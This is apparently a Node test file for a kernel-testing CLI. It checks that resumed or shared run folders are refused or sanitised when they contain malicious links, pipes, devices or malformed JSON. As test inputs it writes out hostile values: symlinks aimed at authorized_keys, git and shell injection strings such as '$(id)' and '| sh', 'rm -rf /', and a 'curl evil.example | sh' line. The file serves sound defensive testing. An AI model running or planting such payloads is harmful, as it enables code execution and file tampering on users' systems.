// SPDX-License-Identifier: MIT
import assert from 'node:assert/strict';
import { execFileSync } from 'node:child_process';
import {
  lstat,
  mkdir,
  mkdtemp,
  open,
  readFile,
  realpath,
  rm,
  symlink,
  writeFile,
} from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';
import { after, before, test } from 'node:test';
import { setTimeout } from 'node:timers/promises';
import { readBisectRecord } from '../../src/cli/bisection.js';
import { bisect } from '../../src/cli/bisect.js';
import { resume } from '../../src/cli/check.js';
import { resumeRun } from '../../src/cli/execute.js';
import { SubmissionFile } from '../../src/labs/lava/submission.js';
import type { LavaServer } from '../../src/labs/lava/server.js';
import { JobError } from '../../src/model/errors.js';
import { JobFiles } from '../../src/pipeline/job-files.js';
import { PackageBisection } from '../../src/pipeline/package-bisection.js';
import { renderHtml } from '../../src/reports/html/run-page.js';
import { readRunFile } from '../../src/history/run-file.js';
import { fileReport } from '../../src/reports/files.js';
import { readComparison } from '../../src/reports/comparison-file.js';
import { copyAnew, readIfThere } from '../../src/system/files.js';
import { LogFile } from '../../src/system/log-file.js';
import { ownCommand } from '../../src/system/shell-words.js';
import { sampleRun } from './reports-run.js';

// The folder of a run that somebody else made, and that we go on with or show.

let dir = '';
before(async () => (dir = await realpath(await mkdtemp(join(tmpdir(), 'busyguest-resume-')))));
after(() => rm(dir, { recursive: true, force: true }));

const text =
  'name: n\nkernels: [{name: k, source: t}]\ndevices: [qemu-powernv9]\ntests: [{name: t, quota-us: 30000}]\n';
const job = 'k-qemu-powernv9-t';

/** A run that was interrupted before its only job. */
async function interrupted(): Promise<string> {
  const place = await mkdtemp(join(dir, 'run-'));
  await mkdir(join(place, job));
  const record = { file: '/a/m.yaml', text, startedAt: '', jobs: [job] };
  await writeFile(join(place, 'run.json'), JSON.stringify(record));
  return place;
}

async function secretFile(): Promise<string> {
  const secret = join(await mkdtemp(join(dir, 'home-')), 'authorized_keys');
  await writeFile(secret, 'mine');
  return secret;
}

test('--resume: a folder with links that lead elsewhere, pipes or devices is not gone on with', async () => {
  const secret = await secretFile();
  const attacks: readonly ((place: string) => Promise<unknown>)[] = [
    (place) => symlink(secret, join(place, job, 'console.log')),
    (place) => symlink('../../x', join(place, job, 'ktap.txt')),
    (place) =>
      rm(join(place, job), { recursive: true }).then(() =>
        symlink(dirname(secret), join(place, job)),
      ),
    (place) => symlink('/dev/zero', join(place, job, 'build.log')),
    (place) => Promise.resolve(execFileSync('mkfifo', [join(place, job, 'firmware.log')])),
  ];
  for (const [index, attack] of attacks.entries()) {
    const place = await interrupted();
    await attack(place);
    await assert.rejects(
      resumeRun(place),
      (error) => error instanceof JobError && /refused/.test(error.message),
      `${index}`,
    );
    await writeFile(join(place, 'bisect.json'), JSON.stringify(bisection));
    const options = { results: dir, resume: place, tree: 't', device: 'd', quiet: true };
    await assert.rejects(bisect(options), /refused/);
  }
  const good = await interrupted();
  await symlink(job, join(good, 'latest'));
  assert.equal((await resumeRun(good)).dir, good);
});

test('what a job writes is a new file, never another one behind a link', async () => {
  const secret = await secretFile();
  const files = new JobFiles(await mkdtemp(join(dir, 'job-')));
  const log = join(files.dir, 'from');
  await writeFile(log, 'a log');
  const writers: readonly (readonly [string, () => Promise<unknown>])[] = [
    ['console.log', async () => (await files.openConsole()).close()],
    ['build.log', () => files.keepBuildLog(log)],
    ['firmware.log', () => new LogFile(files.firmwarePath).end()],
    ['copy', () => copyAnew(log, join(files.dir, 'copy'))],
  ];
  for (const [name, write] of writers) {
    await symlink(secret, join(files.dir, name));
    await write();
    assert.equal(await readFile(secret, 'utf8'), 'mine', name);
    assert.ok((await lstat(join(files.dir, name))).isFile(), name);
  }
});

const commit = { id: 'a'.repeat(40), subject: 's' };
const bisection = { device: 'd', startedAt: '', tree: '/t', good: commit, bad: commit };
const server = { rest: { url: 'http://x' } } as unknown as LavaServer;

/** Every file beside run.json and results.json that is read of a run's folder, by its reader. */
const readers: readonly (readonly [string, (place: string) => Promise<unknown>])[] = [
  ['check.json', (place) => resume(place, flags)],
  ['bisect.json', (place) => readBisectRecord(join(place, 'bisect.json'))],
  ['packages.json', (place) => new PackageBisection(place, ['a', 'b'], '').next()],
  ['comparison.json', (place) => readComparison(place)],
  ['lava.json', (place) => new SubmissionFile(server, place, 't').submit(() => '')],
];
const flags = { results: '', fresh: false, quiet: true, json: false };
const deep = '['.repeat(200_000);
const files: readonly (readonly [string, (path: string) => Promise<unknown>])[] = [
  ['null', (path) => writeFile(path, 'null')],
  ['a list', (path) => writeFile(path, '[7]')],
  ['half of it', (path) => writeFile(path, '{"a": ')],
  ['wrong types', (path) => writeFile(path, '{"base": 7, "a": 7, "tree": [], "url": {}}')],
  ['a prototype', (path) => writeFile(path, '{"__proto__": {"a": "x"}}')],
  ['nested', (path) => writeFile(path, `{"a": ${deep}`)],
  ['a folder', (path) => mkdir(path)],
  ['a pipe', (path) => Promise.resolve(execFileSync('mkfifo', [path]))],
  ['a device', (path) => symlink('/dev/zero', path)],
];
for (const [name, read] of readers) {
  test(`${name} of anybody is refused at once where it is none`, async () => {
    for (const [what, make] of files) {
      const place = await interrupted();
      await make(join(place, name));
      const reading = read(place).then(
        () => 'taken',
        (error: unknown) => error,
      );
      const caught = await Promise.race([reading, setTimeout(20_000, 'waits', { ref: false })]);
      // An object with no outcome in it is one of packages.json.
      if (name === 'packages.json' && what === 'a prototype') continue;
      assert.ok(caught instanceof JobError, `${what}: ${String(caught)}`);
    }
  });
}

test('bisect.json: what becomes an argument of git is the id of a commit', async () => {
  const file = join(await mkdtemp(join(dir, 'bisect-')), 'bisect.json');
  for (const id of ['--upload-pack=x', 'HEAD', '-x', `${'a'.repeat(40)}\n`, '']) {
    await writeFile(file, JSON.stringify({ ...bisection, good: { id, subject: '' } }));
    await assert.rejects(readBisectRecord(file), JobError, JSON.stringify(id));
  }
  await writeFile(file, JSON.stringify(bisection));
  assert.deepEqual(await readBisectRecord(file), bisection);
});

test('a command of a file of anybody that people paste is one of busyguest, and no more', () => {
  assert.equal(
    ownCommand("busyguest bisect --tree '/a b#c'", 'bisect'),
    "busyguest bisect --tree '/a b#c'",
  );
  for (const tail of ['; id', '$(id)', '`id`', '| sh', '&& id', '> /etc/x', '"$(id)"', '\nid']) {
    const made = ownCommand(`busyguest bisect --tree x${tail}`, 'bisect');
    if (made === undefined) continue;
    // A shell that reads it back starts nothing but this, with the text as its arguments.
    const shown = execFileSync(
      'sh',
      ['-c', `busyguest() { printf '%s\\n' "$@"; }; id() { echo RAN; }\n${made}`],
      { cwd: dir, encoding: 'utf8' },
    );
    assert.doesNotMatch(shown, /RAN/, tail);
    assert.match(shown, /^bisect\n--tree\n/, tail);
  }
  for (const other of [
    'rm -rf /',
    'busyguest check',
    'busyguest bisect a\u001b]52;c;x\u0007',
    '',
  ]) {
    assert.equal(ownCommand(other, 'bisect'), undefined, other);
  }
});

test("comparison.json: neither the terminal nor the page shows another's command", async () => {
  const place = await mkdtemp(join(dir, 'compared-'));
  const empty = { newFailures: [], fixed: [], stillFailing: [], otherStatus: [], flaky: [] };
  const whole = { a: 'a', b: 'b', ...empty, newJobs: [], vanishedJobs: [], metrics: [] };
  await writeFile(
    join(place, 'comparison.json'),
    JSON.stringify({ ...whole, bisect: 'curl evil.example | sh' }),
  );
  assert.equal((await readComparison(place))?.bisect, undefined);
  assert.doesNotMatch(await renderHtml(sampleRun(), place), /evil\.example/);
});

test("no report and no error has what a link of a stranger's folder leads to", async () => {
  const secret = await secretFile();
  const canary = 'canary-5f2c';
  await writeFile(secret, `${canary}\nBUSYGUEST-START v1\n`);
  const [one] = sampleRun().jobs;
  assert.ok(one);
  const run = sampleRun({ jobs: [one] });
  const names = ['console.log', 'build.log', 'job.json', 'samples.json', 'status.json'];
  for (const whole of [true, false]) {
    const place = await mkdtemp(join(dir, 'linked-'));
    const folder = join(place, one.name);
    if (whole) await symlink(dirname(secret), folder);
    else await mkdir(folder);
    const inside = whole ? dirname(secret) : folder;
    for (const name of names) {
      if (whole) await writeFile(join(inside, name), canary);
      else await symlink(secret, join(inside, name));
    }
    for (const name of ['report.html', 'junit.xml', 'kcidb.json'])
      await symlink(secret, join(place, name));
    for (const format of ['html', 'junit', 'kcidb'] as const) {
      const path = join(
        place,
        { html: 'report.html', junit: 'junit.xml', kcidb: 'kcidb.json' }[format],
      );
      await fileReport(format).onEnd?.(run, place);
      assert.ok(!(await readFile(path, 'utf8')).includes(canary), format);
      assert.doesNotMatch(await readFile(path, 'utf8'), /authorized_keys/);
    }
    assert.match(await readFile(secret, 'utf8'), /^canary/, 'it was written');
    await symlink(secret, join(place, 'results.json'));
    await symlink(secret, join(place, 'comparison.json'));
    const reads = [() => readRunFile(join(place, 'results.json')), () => readComparison(place)];
    // One after the other: a read that fails while nobody waits for it is an error of the process.
    for (const read of reads) {
      await assert.rejects(read, (error: Error) => !error.message.includes('canary'));
    }
  }
});

test('a report of a folder of anybody is a file, whatever device stands in its place', async () => {
  const place = await mkdtemp(join(dir, 'device-'));
  execFileSync('mkfifo', [join(place, 'results.tap')]);
  const writing = fileReport('tap').onEnd?.(sampleRun(), place);
  assert.equal(
    await Promise.race([
      Promise.resolve(writing).then(() => 'written'),
      setTimeout(20_000, 'waits', { ref: false }),
    ]),
    'written',
  );
  assert.ok((await lstat(join(place, 'results.tap'))).isFile());
});

test('a file that has no end is not read into memory, whoever asks for it', async () => {
  await symlink('/dev/zero', join(dir, 'index.json'));
  await assert.rejects(readIfThere(join(dir, 'index.json')), JobError);
  assert.equal(await readIfThere(join(dir, 'nothing')), undefined);
  const file = await open('/proc/self/status');
  await file.close();
  assert.match((await readIfThere('/proc/self/status')) ?? '', /^Name:/);
});
